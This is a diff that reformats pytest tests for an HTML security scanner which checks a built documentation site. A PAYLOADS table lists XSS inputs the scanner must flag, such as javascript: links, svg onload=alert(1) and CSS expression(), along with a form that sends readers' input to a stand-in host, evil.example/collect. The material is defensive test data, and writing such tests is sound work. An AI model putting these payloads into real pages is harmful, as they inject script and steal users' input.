@@ -3,6 +3,7 @@
 These are unit tests on documents; tests/test_bad_input.py builds a fixture
 site to show each route into a page ends at this scan with the file named.
 """
+
 from __future__ import annotations
 
 import pytest
@@ -14,8 +15,10 @@ CONFIG = '<script id="__config" type="application/json">{"base": "."}</script>'
 
 
 def page(body: str, head: str = "") -> str:
-    return (f'<!doctype html><html><head><meta charset="utf-8">{head}<title>T</title></head>'
-            f"<body>{body}{CONFIG}{PINNED_FILES}</body></html>")
+    return (
+        f'<!doctype html><html><head><meta charset="utf-8">{head}<title>T</title></head>'
+        f"<body>{body}{CONFIG}{PINNED_FILES}</body></html>"
+    )
 
 
 def findings(body: str, head: str = "", **kw) -> list[str]:
@@ -56,8 +59,10 @@ PAYLOADS = {
     "data link": ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "data: address"),
     "data image": ('<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">', "data: address"),
     "form action script": ('<form action="javascript:go()"></form>', "script address"),
-    "svg animate href": ('<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
-                         "script address in values="),
+    "svg animate href": (
+        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
+        "script address in values=",
+    ),
     "xlink href": ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "script address"),
     # Forms that send readers' words elsewhere.
     "form to another site": ('<form action="https://evil.example/collect"><input name="q"></form>', "sends what"),
@@ -67,7 +72,10 @@ PAYLOADS = {
     "image": ('<img src="https://example.org/cat.png" alt="cat">', "loads https://example.org/cat.png"),
     "scheme-relative image": ('<img src="//example.org/cat.png" alt="cat">', "loads //example.org/cat.png"),
     "backslash image": ('<img src="\\\\example.org/cat.png" alt="cat">', "loads"),
-    "srcset": ('<img src="a.png" srcset="a.png 1x, https://example.org/b.png 2x" alt="a">', "loads https://example.org/b.png"),
+    "srcset": (
+        '<img src="a.png" srcset="a.png 1x, https://example.org/b.png 2x" alt="a">',
+        "loads https://example.org/b.png",
+    ),
     "video poster": ('<video poster="https://example.org/p.png"></video>', "loads https://example.org/p.png"),
     "audio": ('<audio src="https://example.org/a.mp3"></audio>', "loads"),
     "picture source": ('<picture><source srcset="https://example.org/a.webp"></picture>', "loads"),
@@ -82,7 +90,7 @@ PAYLOADS = {
     "style url escaped": ('<p style="background: u\\72l(https://example.org/x.png)">x</p>', "loads"),
     "style import": ("<style>@import 'https://example.org/x.css';</style>", "loads https://example.org/x.css"),
     "style url in element": ("<style>body{background:url('//example.org/x.png')}</style>", "loads"),
-    "style image-set": ('<p style="background-image: image-set(\'https://example.org/x.png\' 1x)">x</p>', "loads"),
+    "style image-set": ("<p style=\"background-image: image-set('https://example.org/x.png' 1x)\">x</p>", "loads"),
     "style expression": ('<p style="width: expression(alert(1))">x</p>', "runs code"),
     "body background": ('<table background="https://example.org/x.png"></table>', "loads"),
     # Frames, plugins and page-wide tags.
@@ -114,10 +122,12 @@ def test_payload_in_the_head_is_found_too():
 
 
 def test_allowed_things_pass():
-    ok = ('<a href="https://example.org/">out</a><a href="mailto:a@example.org">m</a><a href="tel:988">988</a>'
-          '<a href="sms:988">t</a><img src="../assets/images/a.png" alt="a"><link rel="canonical" '
-          'href="https://example.org/site/"><form class="md-search__form"><input type="text"></form>'
-          '<p title="javascript is a word here">x</p><svg viewBox="0 0 24 24"><path d="M0 0h24"/></svg>')
+    ok = (
+        '<a href="https://example.org/">out</a><a href="mailto:a@example.org">m</a><a href="tel:988">988</a>'
+        '<a href="sms:988">t</a><img src="../assets/images/a.png" alt="a"><link rel="canonical" '
+        'href="https://example.org/site/"><form class="md-search__form"><input type="text"></form>'
+        '<p title="javascript is a word here">x</p><svg viewBox="0 0 24 24"><path d="M0 0h24"/></svg>'
+    )
     assert findings(ok) == []
 
 
@@ -129,14 +139,16 @@ def test_absolute_theme_paths_resolve_under_the_published_path():
 
 def test_svg_files_may_not_script_at_all():
     svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
-    (message, _), = html_scan.scan_document(svg, "a.svg", svg=True).findings
+    ((message, _),) = html_scan.scan_document(svg, "a.svg", svg=True).findings
     assert "inside an SVG" in message
 
 
 def test_scan_finds_where_the_policy_goes_and_earlier_policy_tags():
-    text = page("", head='<meta http-equiv="Content-Security-Policy" content="x"><meta name="referrer" content="no-referrer">')
+    text = page(
+        "", head='<meta http-equiv="Content-Security-Policy" content="x"><meta name="referrer" content="no-referrer">'
+    )
     scan = html_scan.scan_document(text)
-    assert text[:scan.policy_at].endswith('<meta charset="utf-8">')
+    assert text[: scan.policy_at].endswith('<meta charset="utf-8">')
     assert len(scan.policy_spans) == 2
 
 
@@ -144,8 +156,11 @@ def test_source_pages_map_built_files_to_markdown(tmp_path):
     for rel in ("index.md", "a/index.md", "a/b.md"):
         (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
         (tmp_path / rel).write_text("x")
-    assert html_scan.source_pages(tmp_path) == {"index.html": "docs/index.md", "a/index.html": "docs/a/index.md",
-                                                "a/b/index.html": "docs/a/b.md"}
+    assert html_scan.source_pages(tmp_path) == {
+        "index.html": "docs/index.md",
+        "a/index.html": "docs/a/index.md",
+        "a/b/index.html": "docs/a/b.md",
+    }
 
 
 def test_a_finding_on_many_pages_points_at_templates():
@@ -155,6 +170,7 @@ def test_a_finding_on_many_pages_points_at_templates():
 
 
 # --- The built site -------------------------------------------------------------
+
 
 def test_the_pinned_scripts_are_exactly_those_the_theme_writes(site):
     """A pin nothing uses is a hole waiting to be used: every pinned hash must
@@ -166,6 +182,7 @@ def test_the_pinned_scripts_are_exactly_those_the_theme_writes(site):
 
 def test_the_built_site_scans_clean(site):
     from conftest import ROOT
+
     findings, scans = html_scan.scan_site(site, ROOT / "docs", "/site/")
     assert findings == [] and len(scans) > 60
 
@@ -177,6 +194,7 @@ def test_vendored_libraries_are_exactly_the_pinned_releases():
     import yaml
 
     from conftest import ROOT
+
     vendored = yaml.safe_load(html_scan.PINNED_FILE.read_text(encoding="utf-8"))["vendored"]
     assert vendored
     for item in vendored:
